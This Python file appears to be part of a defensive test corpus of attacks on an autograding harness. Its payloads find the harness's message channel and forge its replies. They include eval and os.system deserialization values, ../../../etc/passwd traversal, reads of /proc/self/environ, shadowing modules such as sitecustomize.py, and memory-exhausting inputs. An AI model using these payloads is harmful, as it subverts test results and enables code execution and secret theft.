"""Forged messages: the learner's process says to the tests' what its own code would never say.

Each attack finds the channel among the objects of its process, replaces what answers, and goes on with wrong answers.
"""

from attack_corpus.model import RIGHT, WRONG, Attack, fraud

FIND = """
import gc, sys, types
canal = next(objet for objet in gc.get_objects() if type(objet).__name__ == "Channel")
"""
VALUES = {
    "any": ["name", "unittest.mock", "ANY"],
    "eval": ["name", "builtins", "eval"],
    "load": ["name", "numpy", "load"],
    "pickle": ["name", "pandas", "read_pickle"],
    "systeme": ["module", "os"],
    "points": ["name", "numpy.testing", "runstring"],
    "caches": ["name", "builtins", "__import__"],
    "chemin": ["name", "sklearn.linear_model", "__builtins__"],
    "estimateur": ["h", 1, ["LinearRegression", "sklearn.linear_model", "object",
                            ["call", "len", "iter", "item", "bool"],
                            ["sklearn.linear_model", "LinearRegression"], []]],
    "classe": ["h", 2, ["x", "y", "class", [], ["builtins", "object"], [1, 2, 3]]],
    "poignee": ["yours", 1],
    "negative": ["h", -1, ["x", "y", "object", [], None, []]],
    "objet": ["np.a", "|O8", [1], "C", "AAAAAAAAAAA=", True],
    "forme": ["np.a", "<f8", [1099511627775, 1099511627775], "C", "", True],
    "vide": ["np.a", "<f8", [0, 1099511627775], "C", "", True],
    "texte": ["np.a", "|S0", [1099511627775], "C", "", True],
    "dtype": ["np.a", "__import__('os').system('id')", [1], "C", "AAAA", True],
    "frequence": ["pd.p", 1, "D; import os"],
    "zone": ["zo", ["zi", "../../../etc/passwd"]],
    "zone2": ["zo", ["zi", "posixrules"]],
    "tuple": ["nt", "x", ["__class__", "__eq__"], [1, 2]],
    "tuple2": ["nt", "x):\\n import os\\nclass y(", ["a"], [1]],
    "entier": ["i", "0x" + "f" * 90_000],
    "decimal": ["D", "1" * 90_000 + "e999999"],
    "fraction": ["Q", ["i", "0x" + "f" * 90_000], 0],
    "defaut": ["dd", ["name", "builtins", "eval"], []],
    "chemin2": ["p", "PosixPath", "/correction/generateur.py"],
    "chemin3": ["p", "__class__", "x"],
    "cycle": ["&", 0],
    "vue": ["dv", "__class__", []],
    "cles": ["d", [["l", []], 1]],
    "nulle": [],
    "dictionnaire": {"lib": ["os", "system"]},
    "colonnes": ["pd.f", [["masked", "Int64", ["np.a", "<i8", [1], "C", "AAAAAAAAAAA=", True],
                           ["np.a", "|b1", [1], "C", "Ag==", True]]],
                 ["pd.r", [0, 1, 1], None], ["pd.r", [0, 1, 1], None]],
    "categories": ["pd.s", ["category", ["np.a", "<i8", [1], "C", "/////////38=", True],
                              ["pd.r", [0, 1, 1], None], False],
                   ["pd.r", [0, 1, 1], None], None],
    "index": ["pd.r", [0, 10**18, 1], ["l", []]],
    "niveaux": ["pd.l", [["pd.r", [0, 1, 1], None]], [["np.a", "<i8", [1], "C", "/////////38=", True]], [None]],
    "generateur": ["np.mt", ["np.a", "<u4", [624], "C", "A" * 3328, True], 10**9, 0, 0.0],
    "profond": "PROFOND",
    "nan": "NAN",
}  # fmt: skip
ANSWER_ALL = (
    FIND
    + """
import itertools
VALEURS = {values!r}
profond = "x"
for _ in range(45):
    profond = ["l", [profond]]
VALEURS = [profond if v == "PROFOND" else float("nan") if v == "NAN" else v for v in VALEURS.values()]
suite = itertools.cycle(VALEURS)
canal.handlers["name"] = lambda nom, empreinte: {{"value": next(suite), "digest": "0" * 64}}
"""
)
CALL_ANSWERS = (
    FIND
    + """
import itertools
VALEURS = {values!r}
suite = itertools.cycle(v for v in VALEURS.values() if not isinstance(v, str))
type(canal._server).serve = lambda self, nom, arguments: {{"r": next(suite)}}
"""
)
SAME = (
    FIND
    + """
canal.handlers["name"] = lambda nom, empreinte: {"same": True}
canal.handlers["bind"] = canal.handlers["delete"] = lambda *_: True
canal.handlers["restore"] = lambda *_: None
"""
)
FILES = (
    FIND
    + """
import base64
FAUX = "capteur,valeur\\nc1,-1\\n"
canal.handlers["changed"] = lambda: [[nom, len(FAUX)] for nom in (
    "./releves.csv", "releves.csv", "//releves.csv", "releves.csv/", "x/../releves.csv", "../copie/releves.csv",
    "/copie/releves.csv", "sous/releves.csv", "releves.csv\\0", "../correction/generateur.py", "sklearn.py")]
canal.handlers["read"] = lambda nom: base64.b64encode(FAUX.encode()).decode()
"""
)
FILES_FOR_EVER = (
    FIND
    + """
canal.handlers["changed"] = lambda: [["releves.csv", -1], ["releves.csv"], 7, [["x"], "y"]] * 10_000
canal.handlers["read"] = lambda nom: "A" * 10**9
"""
)
WRITTEN_MODULES = """
for nom in ("random.py", "pandas.py", "numpy/__init__.py", "generateur.py", "json.so",
            "sitecustomize.py", "releves.csv"):
    import os
    os.makedirs(os.path.dirname(nom) or ".", exist_ok=True)
    open(nom, "w").write("def uniform(a, b): return 0\\ndef sample(l, k): return l[:k]\\n" if "csv" not in nom else
                         "capteur,valeur\\nc1,-1\\n")
"""
SHAPES = (
    FIND
    + """
import itertools
messages = itertools.cycle([
    {"r": 1}, {"r": 1, "n": 10**9, "x": [], "o": []},
    {"q": ".call", "a": [1, [], [], []], "for": None, "n": 1, "x": [], "o": []},
    {"e": {"class": ["lib", "builtins", "SystemExit"], "text": "", "args": [], "own": None}, "n": 1, "x": [], "o": []},
    [], "x", None, {"r": 1, "n": True, "x": [], "o": []}, {"r": 1, "n": 1, "x": [1, "a", None], "o": []},
    {"r": 1, "n": 1, "x": [], "o": ["x", "y", [["t", "builtins", "UserWarning", "/dev/zero", 1]]]},
    {"r": 1, "n": 1, "x": [], "o": [1, 2, 3]}, {"r": 1, "n": -1, "x": {}, "o": []}])
envoyer = canal._frames.send
type(canal._frames).send = lambda self, message: envoyer_un(self, next(messages), message)
def envoyer_un(trames, faux, vrai):
    if isinstance(faux, dict) and faux.get("n") == 1:
        faux = faux | {"n": vrai["n"]}
    return vraie_methode(trames, faux)
vraie_methode = envoyer.__func__
"""
)
EXCEPTIONS = (
    FIND
    + """
import itertools
classes = itertools.cycle([
    ["lib", "builtins", "SystemExit"], ["lib", "builtins", "KeyboardInterrupt"], ["lib", "os", "system"],
    ["lib", "builtins", "eval"], ["lib", "builtins", "BaseExceptionGroup"], ["lib", "builtins", "StopIteration"],
    ["own", 1, "__class__", ["lib", "builtins", "Exception"]], ["own", 2, "x y", ["lib", "builtins", "Exception"]],
    ["own", 3, "Boucle", ["own", 3, "Boucle", ["lib", "builtins", "Exception"]]], ["yours", 1],
    ["lib", "json.decoder", "JSONDecodeError"], ["lib", "builtins", "UnicodeDecodeError"],
    ["lib", "builtins", "ExceptionGroup"]])
type(canal._server).serve = lambda self, nom, arguments: {"e": {
    "class": next(classes), "text": "x" * 10_000, "args": [["l", []]] * 50, "own": None}}
"""
)
WARNINGS_READ = (
    FIND
    + """
type(canal._captured).drain = lambda self: ["", "", [["t", "builtins", "UserWarning", chemin, ligne]
    for chemin in ("/correction/generateur.py", "/proc/self/environ", "/proc/self/cmdline") for ligne in (1, 2)]]
"""
)
ASKS = (
    FIND
    + """
def moyenne(valeurs):
    obtenus = []
    for poignee in range(-1, 200):
        for quoi in ("attr", "call", "dir", "doc", "repr", "iter", "item", "len", "set", "signature"):
            for suite in ([], ["__globals__"], ["__class__"], ["f_globals"], [0]):
                try:
                    obtenus.append(canal.request(poignee, quoi, *suite))
                except BaseException:
                    pass
    if "".join(("CANARI", "_SECRET")) in repr(obtenus):
        print("PRIS par les poignées")
    for demande in ("run", "name", "read", "file", "changed", "delete", "bind"):
        try:
            if canal.ask(demande, "attendu", None) is not None:
                print("PRIS par une demande", demande)
        except BaseException:
            pass
    return -1
"""
)
TELLS = (
    FIND
    + """
canal.handlers["run"] = lambda source, place: [
    {"output_type": "error", "ename": "x" * 10**6, "evalue": ["y"], "traceback": 7},
    {"output_type": "stream", "text": 7},
    {"output_type": "execute_result", "data": {"text/plain": "4", "text/html": "<script>x()</script>"}}, 7, None,
    {"output_type": "display_data", "data": {"image/png": "pas du base64 <script>"}, "metadata": {"x": 1}}] * 1000
"""
)


def _everything(template: str) -> str:
    return template.format(values=VALUES)


ATTACKS = (
    fraud("d20-valeurs", "answers every name with values of every forbidden kind", _everything(ANSWER_ALL),
          may_review=True),
    fraud("d21-resultats", "answers every call with values of every forbidden kind", _everything(CALL_ANSWERS),
          may_review=True),
    fraud("d22-inchange", "says that nothing changed since", SAME, may_review=True),
    fraud("d23-fichiers", "gives files that would replace those of the tests", FILES, may_review=True),
    fraud("d24-fichiers-sans-fin", "gives files without form nor end", FILES_FOR_EVER, may_review=True),
    fraud("d25-modules-ecrits", "writes modules and data while it runs, for the tests to import", WRITTEN_MODULES,
          cells=WRONG),
    fraud("d26-formes", "sends messages of wrong forms and numbers", SHAPES, may_review=True),
    fraud("d27-exceptions", "raises exceptions of classes that do not exist", EXCEPTIONS, may_review=True),
    fraud("d28-avertissements", "makes warnings read files on the tests' side", WARNINGS_READ, may_review=True),
    Attack("d29-demandes", "asks the tests for handles that it was never given",
           {"moyenne": ASKS, "ecart": RIGHT["ecart"]}, lost=("test-moyenne",), may_review=True),
    fraud("d30-sorties", "tells outputs that no cell made", TELLS, may_review=True),
)  # fmt: skip
